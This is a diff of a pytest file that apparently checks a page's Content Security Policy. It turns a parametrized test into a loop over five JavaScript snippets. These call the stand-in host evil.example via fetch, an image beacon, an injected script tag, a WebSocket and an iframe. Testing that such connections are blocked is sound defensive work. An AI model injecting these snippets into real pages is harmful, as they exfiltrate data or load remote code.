@@ -103,24 +103,25 @@ def test_a_mark_that_turns_the_writing_stays_in_its_name(open_page: Open, hostil
     assert kept
 
 
-@pytest.mark.parametrize(
-    "act",
-    [
-        "fetch('https://evil.example/')",
-        "new Image().src = 'https://evil.example/x.png'",
-        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
-        "new WebSocket('wss://evil.example/')",
-        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
-    ],
-)
+CONNECTIONS = [
+    "fetch('https://evil.example/')",
+    "new Image().src = 'https://evil.example/x.png'",
+    "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
+    "new WebSocket('wss://evil.example/')",
+    "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
+]
+
+
 def test_the_policy_of_the_page_forbids_every_connection(
-    open_page: Open, sample: Path, complaints: list[str], act: str
+    open_page: Open, sample: Path, complaints: list[str]
 ) -> None:
     page = open_page(sample)
-    page.evaluate(f"() => {{ try {{ const x = {act}; x?.catch?.(() => 0); }} catch {{}} }}")
-    page.wait_for_timeout(100)
-    assert complaints and all("Content Security Policy" in one for one in complaints), complaints
-    complaints.clear()
+    for act in CONNECTIONS:
+        page.evaluate(f"() => {{ try {{ const x = {act}; x?.catch?.(() => 0); }} catch {{}} }}")
+        page.wait_for_timeout(100)
+        refused = [one for one in complaints if "Content Security Policy" in one]
+        assert refused and refused == complaints, act
+        complaints.clear()
 
 
 def test_no_address_stands_in_our_part_of_the_page() -> None:
